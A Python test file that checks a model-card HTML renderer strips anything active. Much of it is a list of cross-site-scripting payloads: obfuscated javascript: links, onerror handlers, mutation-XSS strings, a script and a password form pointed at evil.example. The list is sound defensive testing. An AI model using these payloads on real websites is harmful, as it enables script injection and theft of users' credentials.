"""Whatever a card holds, its page shows it without an exception and without anything that acts."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.explore.card_html import ATTRIBUTES, REL, SCHEMES, TAGS, render_card

BASE = "https://huggingface.co/school/model/blob/main/README.md"


class Inspector(HTMLParser):
    """Reads HTML as a browser might, and writes down all that is not on the list."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.seen: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append(tag)
        if tag not in TAGS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            if name not in ATTRIBUTES.get(tag, ()):
                self.wrong.append(f"{tag} {name}={value}")
            if name == "href":
                address = urlsplit(value or "")
                if address.scheme not in SCHEMES or value != (value or "").strip():
                    self.wrong.append(f"href {value}")
                if dict(attrs).get("rel") != REL or dict(attrs).get("target") != "_blank":
                    self.wrong.append(f"unguarded {value}")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data}")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append(f"declaration {decl}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration {data}")

    def handle_pi(self, data: str) -> None:
        self.wrong.append(f"instruction {data}")


def inspect(shown: str) -> Inspector:
    inspector = Inspector()
    inspector.feed(shown)
    inspector.close()
    return inspector


SCRIPTS = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    " javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "javascript&Tab;:alert(1)",
    "%6Aavascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "https://huggingface.co@evil.example/",
    "\\\\evil.example",
    "http://[::1",
    "https:evil",
    "x" * 5000,
)
FRAGMENTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif' alt='A picture\" onload=\"x'>",
    "<image href=x>",
    "<picture><source srcset=//evil.example/x></picture>",
    "<svg onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=1 onerror=x>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<style>@import '//evil.example';</style>",
    "<p style='background:url(//evil.example)' class=stApp id=root onclick=alert(1)>words</p>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=password><button>Log in</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<video autoplay src=//evil.example></video><audio src=x onerror=alert(1)>",
    "<a href='x' ping='//evil.example' download target=_self rel=opener>words</a>",
    "<a name=x id=y href=#z>words</a>",
    "<details ontoggle=alert(1) open><summary>More</summary>words</details>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<xmp><script>alert(1)</script></xmp><plaintext>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo 1 ?>",
    "<!DOCTYPE html><html><body onload=alert(1)>",
    "<h1 onclick=x>Title</h1>",
    "<h6>Small</h6>",
    "<custom-element is=x>words</custom-element>",
    "![](https://evil.example/pixel.gif)",
    "![a <b> \" ' & [nested](x)](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![badge](https://evil.example/badge.svg)](https://evil.example)",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "| a | <img src=x onerror=alert(1)> |\n|---|---|\n| [x](javascript:alert(1)) | b |",
    "# One\n\n## Two\n\n###### Six",
    "- [ ] a\n  1. b\n     > c",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<",
    "</",
    '<a href="',
    "<b" * 50,
    "\n\n",
    "$$\\href{javascript:alert(1)}{x}$$",
)
LINKS = [
    form.format(address)
    for address in SCRIPTS
    for form in ("[words]({})", "[words](<{}>)", "<a href='{}'>words</a>", "<{}>", "[x]\n\n[x]: {}")
]

hostile = st.lists(st.sampled_from([*FRAGMENTS, *LINKS]) | st.text(max_size=30), max_size=12)


@pytest.mark.parametrize("source", [*FRAGMENTS, *LINKS])
@pytest.mark.parametrize("base", ["", BASE])
def test_nothing_of_an_attack_gets_through(source: str, base: str) -> None:
    assert inspect(render_card(source, base=base).html).wrong == []


@given(hostile, st.sampled_from(["", "\n", "\n\n", "<b>", "*"]))
def test_nothing_of_attacks_together_gets_through(parts: list[str], between: str) -> None:
    assert inspect(render_card(between.join(parts), base=BASE).html).wrong == []


@given(st.text() | st.text("<>/\"'=&;:#!-[]()*_`|\\ \n\tabhrefimgsconjtyleduv", max_size=200))
def test_any_text_is_shown_without_anything_that_acts(source: str) -> None:
    assert inspect(render_card(source, base=BASE).html).wrong == []


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("![A *cat*](x.png)", "[picture: A cat]"),
        ("<img src=x alt='A <cat>'>", "[picture: A <cat>]"),
        ("<img src=x>", "[picture]"),
    ],
)
def test_a_picture_is_told_by_its_alternative_text_and_counted(source: str, shown: str) -> None:
    rendered = render_card(f"Before {source} after\n\n{source}")
    assert inspect(rendered.html).text.count(shown) == 2
    assert rendered.pictures == 2


def test_words_about_a_picture_are_no_picture() -> None:
    assert render_card('`<img alt="a">` and &lt;img&gt;').pictures == 0


@pytest.mark.parametrize(
    ("link", "leads_to"),
    [
        ("https://arxiv.org/abs/1", "https://arxiv.org/abs/1"),
        ("mailto:a@b.example", "mailto:a@b.example"),
        ("LICENSE", "https://huggingface.co/school/model/blob/main/LICENSE"),
        ("/openai-community/gpt2", "https://huggingface.co/openai-community/gpt2"),
        ("#use", BASE + "#use"),
    ],
)
def test_links_lead_where_they_lead_on_the_hub(link: str, leads_to: str) -> None:
    assert f'href="{leads_to}"' in render_card(f"[words]({link})", base=BASE).html


def test_without_a_place_on_the_web_only_whole_addresses_are_links() -> None:
    shown = render_card("[here](LICENSE) [there](https://arxiv.org)").html
    assert re.findall(r'href="([^"]*)"', shown) == ["https://arxiv.org"]
    assert "here" in inspect(shown).text


def test_headings_stay_below_those_of_the_page() -> None:
    shown = render_card("# A\n\n## B\n\n### C\n\n<h1>D</h1>\n\n###### E").html
    assert inspect(shown).seen == ["h3", "h4", "h5", "h3", "h6"]


def test_tables_lists_and_code_keep_their_form() -> None:
    shown = render_card("| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n```python\nprint('<')\n```").html
    assert inspect(shown).seen.count("td") == 2
    assert "<br><code>print('&lt;')" in shown
    assert "<li>x</li>" in shown


@pytest.mark.parametrize(
    "source",
    [
        "[" * 200_000,
        "*a **b " * 30_000,
        "<div>" * 50_000,
        "- a\n" * 60_000,
        "<a><b>" * 30_000,
        "|a" * 2000 + "\n" + "|-" * 2000 + "\n" + "|b\n" * 50_000,
        "> " * 100_000,
        "<b>" * 80_000,
    ],
)
def test_a_card_made_to_be_slow_is_cut(source: str) -> None:
    """Without limits some of these take minutes; the test's time limit is what they meet."""
    rendered = render_card(source)
    assert inspect(rendered.html).wrong == []
    assert len(rendered.html) < 2_000_000


def test_a_card_nested_too_deeply_is_shown_as_typed() -> None:
    rendered = render_card("<b>" * 100 + "deep")
    assert rendered.html.startswith("<p>&lt;b&gt;")
    assert "nested too deeply" in rendered.note


def test_a_card_of_usual_size_is_shown_whole() -> None:
    paragraph = "Some **bold** words, a [link](https://arxiv.org) and `code` in a paragraph.\n\n"
    rendered = render_card(paragraph * 800)
    assert rendered.note == ""
    assert rendered.html.count("<p>") == 800
